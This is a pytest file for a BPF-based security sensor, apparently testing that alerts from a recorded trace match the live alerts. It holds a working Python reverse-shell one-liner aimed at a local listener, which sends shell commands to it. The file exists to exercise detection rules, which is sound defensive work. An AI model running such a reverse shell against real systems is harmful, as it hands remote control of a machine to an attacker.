"""bpf tier: record a real reverse shell, replay the trace, and get exactly the alerts the live
engine raised on the same run (same rules, same triggering events)."""

from __future__ import annotations

import socket
import threading
import time

import pytest

from coi_sentinel.events import codec
from coi_sentinel.record import record
from coi_sentinel.replay import replay
from coi_sentinel.rules import load_ruleset
from coi_sentinel.sentinel import AlertList

from support import require_bpf

pytestmark = pytest.mark.bpf

ONE_LINER = ("import socket,os;s=socket.socket();s.connect(('127.0.0.1',{port}));"
             "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv('/bin/sh',['sh','-i'])")


class ShellListener:
    """The other end of the reverse shell: sends a few commands and `exit`, reads until EOF."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(180)      # the probes compile first: tens of seconds on a loaded host
        self.port = self.sock.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        conn, _ = self.sock.accept()
        with conn:
            conn.settimeout(20)
            conn.sendall(b"echo marker-$((6*7))\nexit\n")
            while chunk := conn.recv(4096):
                self.received += chunk

    def close(self) -> None:
        self.thread.join(timeout=30)
        self.sock.close()


def test_replayed_alerts_equal_the_live_alerts(tmp_path, py):
    require_bpf()
    ruleset = load_ruleset(None)
    listener = ShellListener()
    live = AlertList()
    deadline = time.monotonic() + 240
    try:
        res = record(str(tmp_path / "shell.jsonl.gz"), [py, "-c", ONE_LINER.format(port=listener.port)],
                     should_stop=lambda: time.monotonic() > deadline,
                     sensitive=(tuple(ruleset.sensitive_prefixes()), tuple(ruleset.sensitive_suffixes())),
                     ruleset=ruleset, listeners=[live])
    finally:
        listener.close()
    assert b"marker-42" in listener.received, "the shell did not run the listener's commands"
    assert res.exit_code == 0 and res.drops == {}
    replayed = [hit.alert for hit in replay([res.path], ruleset).alerts]

    assert {a.rule for a in live} >= {"reverse_shell_socket_dup", "reverse_shell_exec_socket_stdio"}
    assert len(replayed) == len(live)
    for was, again in zip(live, replayed):
        assert (again.rule, again.ts_ns, again.severity) == (was.rule, was.ts_ns, was.severity)
        assert [codec.to_dict(e) for e in again.events] == [codec.to_dict(e) for e in was.events]
